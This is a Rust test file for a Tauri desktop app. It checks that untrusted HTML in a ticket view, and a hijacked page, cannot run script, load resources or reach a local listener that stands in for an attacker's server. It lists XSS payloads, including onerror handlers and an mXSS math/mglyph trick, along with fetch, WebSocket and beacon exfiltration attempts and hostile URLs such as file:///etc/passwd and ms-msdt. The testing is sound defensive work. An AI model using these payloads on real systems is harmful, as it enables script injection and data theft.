//! What an attacker would try, in the real window: markup that wants to run, load, send and lead
//! away, and a page that has been taken over altogether.
//!
//! A listener on this machine stands for the attacker's own server. It counts who comes.

use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::{Context, Result, ensure};
use holdfast_app_tests::server::Server;
use holdfast_app_tests::stage::Stage;
use holdfast_app_tests::window::Window;
use holdfast_app_tests::{LOGIN, until};
use serde_json::{Value, json};

/// Counts connections; nobody is answered.
struct Trap {
    at: SocketAddr,
    hits: Arc<AtomicUsize>,
}

impl Trap {
    fn set() -> Result<Self> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
        let (at, hits) = (listener.local_addr()?, Arc::new(AtomicUsize::new(0)));
        let counted = hits.clone();
        std::thread::spawn(move || {
            for _ in listener.incoming() {
                counted.fetch_add(1, Ordering::SeqCst);
            }
        });
        Ok(Self { at, hits })
    }

    fn url(&self) -> String {
        format!("http://{}", self.at)
    }

    /// Nobody came. That it would have been noticed is tried, too.
    async fn is_untouched(&self) -> Result<()> {
        let hits = self.hits.load(Ordering::SeqCst);
        ensure!(hits == 0, "the attacker's server was reached {hits} times");
        TcpStream::connect(self.at)?;
        until("the trap counts", async || Ok((self.hits.load(Ordering::SeqCst) == 1).then_some(())))
            .await
    }
}

/// Markup with everything in it that markup has been used for.
fn markup(trap: &str) -> String {
    let tricks = [
        "<p>Words of the markup.</p>",
        "<script>document.title = 'taken'; top.taken = 1</script>",
        "<img src='TRAP/img' onerror='top.taken = 1'><img srcset='TRAP/srcset 1x'>",
        "<link rel=stylesheet href='TRAP/css'><link rel=prefetch href='TRAP/prefetch'>",
        "<style>@import url(TRAP/import); body { background: url(TRAP/background) }</style>",
        "<meta http-equiv=refresh content='0;url=TRAP/refresh'><base href='TRAP/'>",
        "<iframe src='TRAP/frame'></iframe><object data='TRAP/object'></object>",
        "<embed src='TRAP/embed'><video poster='TRAP/poster' src='TRAP/video' autoplay></video>",
        "<svg onload='top.taken = 1'><image href='TRAP/svg'/><use href='TRAP/use#x'/></svg>",
        "<form id=f action='TRAP/form' method=post><input autofocus onfocus='f.submit()'></form>",
        "<p style='background: url(TRAP/style)' onclick='top.taken = 1'>styled</p>",
        "<table background='TRAP/table'><tr><td>cell</td></tr></table>",
        "<a href='TRAP/link' target=_top ping='TRAP/ping'>https://bank.example</a>",
        "<a href='javascript:top.taken = 1'>press</a>",
        "<p>The end of it.</p>",
        "<math><mtext><table><mglyph><style><img src=x onerror='top.taken = 1'></style></table>",
    ];
    format!("<!DOCTYPE html><html><body>{}</body></html>", tricks.concat().replace("TRAP", trap))
}

#[tokio::test(flavor = "multi_thread")]
async fn markup_runs_nothing_loads_nothing_and_leads_nowhere() -> Result<()> {
    let (server, stage, trap) =
        (Server::start().await?, Stage::with_keyring().await?, Trap::set()?);
    let desk = stage.folder("desk")?;
    let window = Window::open(&stage, &desk, &["--server", &server.url()]).await?;
    let read = read_markup(&window, &server, &trap).await;
    if read.is_err() {
        eprintln!("the screen as it was: {}", stage.picture("markup")?.display());
    }
    read?;
    trap.is_untouched().await
}

async fn read_markup(window: &Window, server: &Server, trap: &Trap) -> Result<()> {
    window.type_into("login", LOGIN).await?;
    window.type_into("password", &server.password(LOGIN)?).await?;
    window.click("sign-in").await?;
    window.click("recovery-kept").await?;
    let ticket = window.find("row").await?.attr("data-id").await?.context("a row has an id")?;
    let asked = json!({ "name": "ticket.open", "request": { "ticket": ticket } });
    let whole = window.invoke("call", asked).await?;
    let contact = whole["ok"]["contact"]["id"].as_str().context("the ticket has a contact")?;
    server.customer_writes(&json!({
        "external_id": "markup", "contact": contact, "ticket": ticket, "text": markup(&trap.url()),
    }))?;
    window.click("row").await?;
    window.find("markup").await?;
    // The frame has its words, and a height for them.
    let shown = "const frame = document.querySelector('[data-testid=markup] iframe');
        const body = frame?.contentDocument?.body;
        return { text: body?.innerText ?? '', height: frame?.clientHeight ?? 0 }";
    until("the markup is shown", async || {
        let told = window.run(shown, vec![]).await?;
        let whole = told["text"].as_str().is_some_and(|text| text.contains("The end of it."));
        Ok((whole && told["height"].as_i64() > Some(40)).then_some(()))
    })
    .await?;
    // The link's true host stands beside it, and asks before anything is opened.
    let host = "return document.querySelector('[data-testid=markup-link]').textContent";
    let host = window.run(host, vec![]).await?.to_string();
    ensure!(host.contains(&trap.at.to_string()), "the link's host is shown as {host}");
    let bare = "const frame = document.querySelector('[data-testid=markup] iframe');
        const page = frame.contentDocument;
        const bad = 'script,style,link,meta[http-equiv=refresh],base,iframe,object,embed,video,' +
          'svg,form,input,a,math,[onerror],[onclick],[style*=url],[background],[srcset]';
        return { bad: page.body.querySelectorAll(bad).length, taken: window.taken ?? null,
          title: document.title, at: location.origin,
          bridge: typeof frame.contentWindow.__TAURI_INTERNALS__ }";
    let told = window.run(bare, vec![]).await?;
    assert_eq!(told["bad"], 0, "{told}");
    assert_eq!(told["taken"], Value::Null, "{told}");
    assert_eq!(told["at"], "tauri://localhost", "{told}");
    assert_eq!(told["bridge"], "undefined", "the frame has a way to the desk: {told}");
    // Should the cleaner ever let something through: the frame alone holds.
    let forced = "const frame = document.querySelector('[data-testid=markup] iframe');
        frame.srcdoc = frame.srcdoc.replace('</body>', arguments[0] + '</body>');
        return new Promise((done) => frame.addEventListener('load', () => done(true)))";
    let raw = markup(&trap.url());
    window.run(forced, vec![json!(raw)]).await?;
    let told = window.run("return [window.taken ?? null, location.origin]", vec![]).await?;
    assert_eq!(told, json!([null, "tauri://localhost"]), "the frame let something out");
    Ok(())
}

/// Ways out of a page, as a script in it would try them. Each answers what stopped it.
const WAYS_OUT: &str = "
    const trap = arguments[0];
    const tried = {};
    const attempt = async (name, way) => {
      try { tried[name] = String(await way()); } catch (error) { tried[name] = 'stopped'; }
    };
    const put = (html) => {
      const box = document.createElement('div');
      box.innerHTML = html;
      document.body.append(box);
    };
    const soon = (ms) => new Promise((done) => setTimeout(done, ms));
    return (async () => {
      await attempt('fetch', () => fetch(trap + '/fetch'));
      await attempt('xhr', () => new Promise((done, fail) => {
        const asked = new XMLHttpRequest();
        asked.onload = done; asked.onerror = fail;
        asked.open('GET', trap + '/xhr'); asked.send();
      }));
      await attempt('websocket', () => new Promise((done, fail) => {
        const socket = new WebSocket(trap.replace('http', 'ws'));
        socket.onopen = done; socket.onerror = fail;
      }));
      await attempt('events', () => new Promise((done, fail) => {
        const source = new EventSource(trap + '/events');
        source.onopen = done; source.onerror = fail;
      }));
      await attempt('beacon', () => navigator.sendBeacon(trap + '/beacon', 'words'));
      await attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
      await attempt('eval', () => eval('1'));
      await attempt('function', () => new Function('return 1')());
      await attempt('import', () => import(trap + '/module.js'));
      await attempt('open', () => window.open(trap + '/open') ?? 'stopped');
      put(`<img src='${trap}/img'><link rel=stylesheet href='${trap}/css'>
        <iframe src='${trap}/frame'></iframe><object data='${trap}/object'></object>
        <embed src='${trap}/embed'><video src='${trap}/video' autoplay></video>
        <form action='${trap}/form' method=post><button>x</button></form>
        <div style=\"background: url('${trap}/background')\">x</div>`);
      document.querySelector(`form[action='${trap}/form']`).submit();
      const script = document.createElement('script');
      script.src = trap + '/script.js';
      document.head.append(script);
      const refresh = document.createElement('meta');
      refresh.httpEquiv = 'refresh'; refresh.content = `0;url=${trap}/refresh`;
      document.head.append(refresh);
      await soon(300);
      location.href = trap + '/location';
      await soon(300);
      return tried;
    })()";

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_was_taken_over_reaches_nobody() -> Result<()> {
    let (stage, trap) = (Stage::set()?, Trap::set()?);
    let window = Window::open(&stage, &stage.folder("desk")?, &[]).await?;
    window.find("login").await?;
    let tried = window.run(WAYS_OUT, vec![json!(trap.url())]).await?;
    let ways = tried.as_object().context("what was tried is told")?;
    for way in
        ["fetch", "xhr", "websocket", "events", "worker", "eval", "function", "import", "open"]
    {
        assert_eq!(ways.get(way), Some(&json!("stopped")), "{way}: {tried}");
    }
    let at = window.run("return location.origin", vec![]).await?;
    assert_eq!(at, "tauri://localhost");
    trap.is_untouched().await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_was_taken_over_gets_nothing_of_the_shell_but_what_the_window_needs()
-> Result<()> {
    let stage = Stage::set()?;
    let window = Window::open(&stage, &stage.folder("desk")?, &[]).await?;
    window.find("login").await?;
    // A command of each library that the shell is built with, and of others that it is not.
    for command in [
        "plugin:window|close",
        "plugin:window|create",
        "plugin:window|set_title",
        "plugin:webview|create_webview_window",
        "plugin:webview|internal_toggle_devtools",
        "plugin:webview|print",
        "plugin:app|version",
        "plugin:app|app_hide",
        "plugin:path|resolve_directory",
        "plugin:event|emit",
        "plugin:event|emit_to",
        "plugin:menu|new",
        "plugin:tray|new",
        "plugin:image|from_path",
        "plugin:resources|close",
        "plugin:opener|open_url",
        "plugin:opener|open_path",
        "plugin:opener|reveal_item_in_dir",
        "plugin:notification|notify",
        "plugin:notification|request_permission",
        "plugin:window-state|save_window_state",
        "plugin:shell|execute",
        "plugin:fs|read_file",
        "plugin:http|fetch",
        "plugin:sql|load",
        "plugin:updater|check",
        "plugin:process|exit",
        "no_such_command",
    ] {
        let answer = window.invoke(command, json!({})).await?;
        ensure!(answer["failed"] != Value::Null, "{command} was allowed: {answer}");
        let why = answer["failed"].as_str().unwrap_or_default();
        let stopped = why.contains("not allowed") || why.contains("not found");
        ensure!(stopped, "{command} was stopped by chance: {answer}");
    }
    for url in [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "data:text/html,x",
        "http://plain.example/",
        "https://bank.example@evil.example/",
        "smb://evil.example/share",
        "ms-msdt:/id",
        "tauri://localhost/",
    ] {
        let answer = window.invoke("open_link", json!({ "url": url })).await?;
        ensure!(answer["failed"] != Value::Null, "{url} was opened: {answer}");
    }
    Ok(())
}
